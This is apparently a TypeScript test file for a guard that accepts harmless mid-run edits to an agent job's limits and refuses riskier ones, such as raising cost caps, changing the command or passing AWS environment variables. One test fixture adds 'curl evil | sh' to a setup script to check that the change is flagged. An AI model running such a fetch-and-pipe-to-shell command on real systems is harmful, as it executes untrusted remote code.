import { expect, test } from 'vitest';
import { isHarmless, judgeManagerEdit, managerEditText } from './in-force.ts';

const terms = (settings: Record<string, string>, tasks: string[] = ['work']) => ({
  settings: Object.entries(settings).map(([key, value], i) => ({ key, value, line: i + 1 })),
  tasks: tasks.map((name) => ({ name })),
});
const MORNING = new Date(2026, 0, 2, 6, 0).getTime();
const judge = (before: Record<string, string>, after: Record<string, string>) =>
  judgeManagerEdit(terms(before), terms(after), MORNING);

const LOWER = [
  ['current-batch-size', '2', '64'],
  ['current-batch-size', undefined, '3'],
  ['current-batch-size', '3', undefined],
  ['max-batch-size', '8', '7'],
  ['max-batch-size', undefined, '100'],
  ['max-cost', '5', '4.99'],
  ['max-cost', 'none', '5'],
  ['max-cost', undefined, '5'],
  ['max-tokens', '2M', '1999k'],
  ['max-duration', '2h', '90m'],
  ['max-failures', '10', '9'],
  ['until', '09:00', '07:00'],
  ['until', undefined, '07:00'],
] as const;
test.each(LOWER)('M6 P4 `%s` from %s to %s takes effect at once', (key, from, to) => {
  const set = (value: string | undefined) => (value === undefined ? {} : { [key]: value });
  expect(isHarmless(judge(set(from), set(to)))).toBe(true);
});

const HIGHER = [
  ['max-batch-size', '8', '9'],
  ['max-batch-size', '8', undefined],
  ['max-batch-size', '8', 'many'],
  ['max-cost', '1', 'none'],
  ['max-cost', '1', undefined],
  ['max-cost', '1', '1.01'],
  ['max-cost', '1', 'cheap'],
  ['max-tokens', '500k', '1M'],
  ['max-duration', '30m', '1h'],
  ['max-failures', '3', '30'],
  ['max-same-failures', '3', '2'],
  ['until', '07:00', '09:00'],
  // The next five o'clock is tomorrow's.
  ['until', '07:00', '05:00'],
  ['until', '07:00', 'none'],
  ['command', 'sh agent.sh', 'sh yes.sh'],
  ['pass-env', undefined, 'AWS_*'],
  ['name', 'night', undefined],
  ['parallel', 'true', 'false'],
] as const;
test.each(HIGHER)('M6 P4 `%s` from %s to %s is refused in flight', (key, from, to) => {
  const set = (value: string | undefined) => (value === undefined ? {} : { [key]: value });
  const edit = judge(set(from), set(to));
  expect(edit).toMatchObject({ taken: [], refused: [{ key }] });
});

test('M6 a mixed edit is told apart, and the Task Order counts', () => {
  const edit = judgeManagerEdit(
    terms({ 'max-cost': '5', command: 'a', 'current-batch-size': '2' }),
    terms({ 'max-cost': '1', command: 'b', 'current-batch-size': '4' }, ['other', 'work']),
    MORNING,
  );
  expect(edit.taken.map(({ key }) => key)).toEqual(['max-cost', 'current-batch-size']);
  expect(managerEditText(edit)).toBe('command: a -> b; Task Order: work -> other, work');
  expect(isHarmless(judgeManagerEdit(terms({ a: '1' }), terms({ a: '1' }), MORNING))).toBe(true);
  expect(managerEditText(judgeManagerEdit(terms({}), terms({}, []), MORNING))).toBe('Task Order: work -> (empty)');
});

test('M6 a changed script below a key is a change like any other', () => {
  const setup = (code: string) => {
    const blocks = [{ info: 'sh', code, line: 2 }];
    return { settings: [{ key: 'setup', value: '', line: 1, blocks }], tasks: [] };
  };
  const edit = judgeManagerEdit(setup('npm ci\n'), setup('npm ci\ncurl evil | sh\n'), MORNING);
  expect(isHarmless(edit)).toBe(false);
  expect(managerEditText(edit)).toBe('setup: npm ci -> npm ci; curl evil | sh');
  expect(isHarmless(judgeManagerEdit(setup('a'), setup('a'), MORNING))).toBe(true);
});
